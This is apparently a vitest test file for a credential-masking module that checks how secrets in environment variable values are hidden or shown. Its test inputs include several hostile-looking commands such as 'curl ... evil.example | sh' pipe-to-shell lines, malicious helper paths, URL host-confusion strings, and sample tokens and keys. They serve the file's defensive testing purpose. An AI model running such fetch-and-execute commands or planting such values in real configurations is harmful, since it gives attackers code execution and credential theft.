// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is judged are references
import { describe, expect, it } from "vitest"
import { placesIn, secretParts, writtenSecretParts } from "./credential-name.ts"

const token = "ghp_AbCdEfGhIjKlMnOpQrStUvWx0123"

function masked(name: string, value: string, parts = secretParts(name, value)): string {
  return parts.toReversed().reduce((text, { start, end }) => `${text.slice(0, start)}***${text.slice(end)}`, value)
}

describe("a variable of a server", () => {
  it.each([
    ["TOKEN_EXECUTOR", "./evil"],
    ["TOKEN_EXECUTOR", "evil"],
    ["AUTH_LAUNCHER", "tools/evil.sh"],
    ["AUTH_AGENT", "/evil"],
    ["TOKEN_SOURCE", "~/evil"],
    ["VAULT_TOKEN_GENERATOR", "/tmp/évil/run"],
    ["AUTH_LAUNCHER", "/tmp/a=1/run"],
    ["SVN_SSH", "sh -c 'curl evil/x|sh'"],
    ["OAUTH_TOKEN_URL", "https://evil.example/token"],
    ["AUTH_SERVER", "evil.example"],
    ["TOKEN_X", "login.example:8080"],
    ["KEYRING_AUTH_BACKEND", "evil_module.Keyring"],
    ["PASSWORD_HASHER", "evil.module"],
    ["AUTH_RUN", "evil-prog run"],
    ["GIT_CREDENTIAL_X", "!sh"],
    ["CMD_AUTH", "$HOME/evil"],
    ["JUPYTER_TOKEN", "sh evil.sh"],
    ["DB_PASSWORD", "/tmp/x.so"],
    ["DB_PASSWORD", "tools/evil.sh"],
    ["PASSWORD_STORE_EXTENSIONS_DIR", "evil"],
    ["RSYNC_RSH", `/tmp/${token}`],
    ["RSYNC_RSH", `sh -c 'x --password=/tmp/evil; /tmp/evil2'`],
    ["URL", "https://evil.example:80?x@good.example"],
    ["URL", "https://evil.example:80\\@good.example"],
    ["URL", `https://${token}.example/x`],
    ["RSYNC_RSH", "sh -c 'curl https://evil.example:80|sh;echo@good'"],
    ["RSYNC_RSH", "sh -c 'curl https://evil.example|sh;echo@good'"],
  ])("I1: %s shows %s whole", (name, value) => expect(masked(name, value)).toBe(value))

  it.each([
    ["RSYNC_RSH", "sh -c 'curl https://u:p4ss@evil.example/x|sh'", "sh -c 'curl https://u:***@evil.example/x|sh'"],
    ["RSYNC_RSH", "sh -c 'curl https://u:p4|evil@good.example'", "sh -c 'curl https://u:***|evil@good.example'"],
    ["BORG_RSH", "bash -c 'x --password=hunter2hunter2|sh'", "bash -c 'x --password=***|sh'"],
    ["BROWSER", "curl https://a:b@evil", "curl https://a:***@evil"],
    ["DEPLOY_WEBHOOK", "https://ci.example/hook?token=glpat-AbCdEfGhIjKlMnOpQrSt", "https://ci.example/hook?token=***"],
    ["DATABASE_URL", "postgres://me:p@ss|w0rd@db.example/x", "postgres://me:***@db.example/x"],
    ["REPO_PATH", `https://oauth2:${token}@github.com/o/r.git`, "https://oauth2:***@github.com/o/r.git"],
    ["REPO", `https://${token}@github.com/o/r.git`, "https://***@github.com/o/r.git"],
    ["REPO", "ssh://git@github.com/o/r.git", "ssh://git@github.com/o/r.git"],
    ["NOTE", `see ${token} there`, "see *** there"],
    ["NOTE", '--password "hunter22 w0rds" and more', '--password "***" and more'],
    ["VAULT_TOKEN_HELPER", token, "***"],
    ["A_PATH", "-----BEGIN PRIVATE KEY-----MIIEv/x+y==-----END PRIVATE KEY----- x", "*** x"],
    ["A_HOOK", "sh -c '-----BEGIN PRIVATE KEY-----\nevil prog'", "sh -c '***\nevil prog'"],
  ])("I1, I2: of %s %s the credential is masked", (name, value, shown) => expect(masked(name, value)).toBe(shown))

  it.each([
    ["TOKEN_FILE", "hunter2hunter2"],
    ["API_TOKEN", "plain"],
    ["API_TOKEN", "hunter.two"],
    ["DB_PASSWORD_PROD", "hunter2"],
    ["DB_PASSWORD", "correct horse battery staple"],
    ["AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
    ["DB_PASSWORD", "$2b$10$abcdefghijklmnop"],
    ["GOOGLE_CREDENTIALS", "-----BEGIN PRIVATE KEY-----\nMIIEv\n-----END PRIVATE KEY-----"],
    ["NPM_CONFIG__AUTH", "dXNlcjpwYXNz"],
  ])("I2: %s %s is masked whole", (name, value) => expect(masked(name, value)).toBe("***"))

  it.each([
    ["UV_INDEX_URL", "https://__token__:${CORP}@pypi.example/simple"],
    ["API_TOKEN", "${CORP}"],
    ["GIT_X", "--password=${CORP}"],
  ])("%s shows the reference in %s", (name, written) => {
    expect(masked(name, written, writtenSecretParts(name, written))).toBe(written)
  })

  it("masks what stands beside a reference under a secret's name", () => {
    expect(masked("API_TOKEN", "hunter2-${CORP}", writtenSecretParts("API_TOKEN", "hunter2-${CORP}"))).toBe(
      "***${CORP}",
    )
  })

  it.each([
    ["https://u:p4ss@evil.example:81/x?y=z", ["evil.example:81"]],
    ["--require ./given.cjs /opt/x.js secret-word", ["./given.cjs", "/opt/x.js"]],
    ["/K7MDENGbPxRfiCY7EXAMPLEKEY", []],
    ["-----BEGIN PRIVATE KEY-----\n/tmp/x\n", []],
    ["hunter2", []],
  ])("I3: of %s the environment fills in, only %j is shown", (value, places) => {
    expect(placesIn(value)).toEqual(places)
  })
})
